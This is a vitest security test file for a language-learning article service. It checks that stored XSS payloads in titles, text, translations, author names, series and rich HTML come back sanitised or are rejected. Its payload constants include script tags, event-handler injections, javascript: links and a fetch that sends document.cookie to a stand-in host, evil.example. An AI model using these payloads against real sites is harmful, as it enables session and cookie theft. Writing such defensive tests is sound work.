import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TestApp } from '../../../../test-support/platform/test-app';
import { createArticle, database, get, libraryTestApp, person, post } from '../../../../test-support/contexts/library/app';

/** Stored XSS: what one user writes comes back to everyone without anything that could run. */
const PAYLOAD_TITLE = 'Hallo<script>alert(document.cookie)</script><img src=x onerror=alert(1)><a href="javascript:alert(1)">Welt</a>';
const PAYLOAD_TEXT =
  'Erster Satz.<script>fetch("//evil.example?c="+document.cookie)</script> <svg onload=alert(1)></svg><iframe src="javascript:alert(1)"></iframe>Zweiter Satz.';
const PAYLOAD_HTML =
  '<p onclick="alert(1)">Guten <strong>Tag</strong> <a href="javascript:alert(1)">hier</a> <a href="JaVaScRiPt:alert(1)">da</a></p><img src=x onerror=alert(1)><script>alert(1)</script><style>body{display:none}</style>';

function expectInert(body: string): void {
  expect(body).not.toMatch(/<\s*script/i);
  expect(body).not.toMatch(/<\s*(img|svg|iframe|style)/i);
  expect(body).not.toMatch(/\bon(error|load|click)\s*=/i);
  expect(body).not.toMatch(/javascript\s*:/i);
}

describe(`stored XSS on ${database.label}`, () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await libraryTestApp();
  });
  afterAll(async () => t?.close());

  it('cleans script payloads in title, plain text, translation and author from create, get and list', async () => {
    const author = person(t, 'free', 'Admin'); // public without approval, so every reader lists it
    const reader = person(t);
    const created = await createArticle(author.agent, {
      isPrivate: false,
      name: PAYLOAD_TITLE,
      content: PAYLOAD_TEXT,
      translation: '<script>alert(2)</script>First sentence.',
      authorDisplayName: '<img src=x onerror=alert(3)>Eve',
    });
    expectInert(JSON.stringify(created));
    expect(created.article).toMatchObject({
      name: 'HalloWelt',
      content: 'Erster Satz. Zweiter Satz.',
      translation: 'First sentence.',
      authorDisplayName: 'Eve',
    });

    const got = await get(reader.agent, `/api/articles/${created.article.id}?minPosition=${created.position}`);
    expect(got.json()).toMatchObject({ name: 'HalloWelt', content: 'Erster Satz. Zweiter Satz.' });
    expectInert(got.body);
    const list = await get(reader.agent, '/api/articles?languageCode=de&search=HalloWelt');
    expect(list.json().articles.map((a: { id: string }) => a.id)).toEqual([created.article.id]);
    expectInert(list.body);
    // Words are counted from the cleaned text: the script's words are not part of the article.
    expect(got.json().totalWords).toBe(4);
  });

  it('keeps only harmless tags of rich text, with links neutralised', async () => {
    const author = person(t);
    const created = await createArticle(author.agent, { content: PAYLOAD_HTML, contentFormat: 'html' });
    expectInert(JSON.stringify(created));
    expect(created.article.content).toBe(
      '<p>Guten <strong>Tag</strong> <a rel="noopener noreferrer nofollow" target="_blank">hier</a> <a rel="noopener noreferrer nofollow" target="_blank">da</a></p>',
    );
    expect(created.article.totalWords).toBe(4);
    const got = await get(author.agent, `/api/articles/${created.article.id}`);
    expectInert(got.body);
  });

  it('refuses javascript: image addresses and cleans series titles', async () => {
    const author = person(t);
    const bad = await post(author.agent, '/api/articles/create', {
      languageCode: 'de',
      name: 'x',
      category: 'Other',
      generalDifficulty: 'A1',
      content: 'x',
      previewImgSrc: 'javascript:alert(1)',
    });
    expect(bad.statusCode).toBe(400);
    const series = await post(author.agent, '/api/series/create', {
      languageCode: 'de',
      title: '<script>alert(1)</script>Reihe',
      description: '<img src=x onerror=alert(1)>Text',
    });
    expect(series.json().series).toMatchObject({ title: 'Reihe', description: 'Text' });
    const listed = await get(author.agent, `/api/series/user-series?minPosition=${series.json().position}`);
    expectInert(listed.body);
  });

  it('declines public text with scripts at the moderation check', async () => {
    const master = person(t, 'master');
    const res = await post(master.agent, '/api/articles/create', {
      languageCode: 'de',
      name: PAYLOAD_TITLE,
      category: 'Other',
      generalDifficulty: 'A1',
      content: 'Text',
      isPrivate: false,
    });
    expect(res.statusCode).toBe(422);
  });
});
